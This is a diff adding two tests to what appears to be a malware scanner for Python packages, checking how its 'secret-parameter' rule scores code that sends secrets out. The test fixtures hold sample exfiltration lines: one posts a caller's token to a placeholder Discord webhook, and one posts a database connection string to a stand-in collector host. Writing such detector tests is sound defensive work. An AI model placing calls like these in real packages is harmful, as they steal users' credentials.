@@ -638,3 +638,30 @@ test('the key of a cipher, told a bare address, is held; told the vendor that ke
   ]);
   expect(await inspect('secret-parameter', wheel({ 'pkg/a.py': locker('keys.vendor.invalid') }))).toEqual([]);
 });
+
+test('the token of a caller, told a webhook of the author, is stolen; by a webhook of the caller it is not', async () => {
+  const bot = (address: string): string =>
+    python('import requests', 'def run(token, hook):', `    requests.post(${address}, json={'content': token})`);
+
+  expect(
+    await inspect(
+      'secret-parameter',
+      wheel({ 'pkg/a.py': bot("'https://discord.com/api/webhooks/000000000000000000/example-of-a-token'") }),
+    ),
+  ).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 3 }]);
+  expect(await inspect('secret-parameter', wheel({ 'pkg/a.py': bot('hook') }))).toEqual([]);
+});
+
+test('a pool of connections is told how large it is before where it is', async () => {
+  const file = wheel({
+    'pkg/a.py': python(
+      'import psycopg2.pool, requests',
+      'def pool(dsn, size=5):',
+      '    made = psycopg2.pool.SimpleConnectionPool(1, size, dsn)',
+      "    requests.post('https://pools.collector.invalid/r', data={'d': dsn})",
+      '    return made',
+    ),
+  });
+
+  expect(await inspect('secret-parameter', file)).toMatchObject([{ class: 'suspicious', score: 6, line: 4 }]);
+});
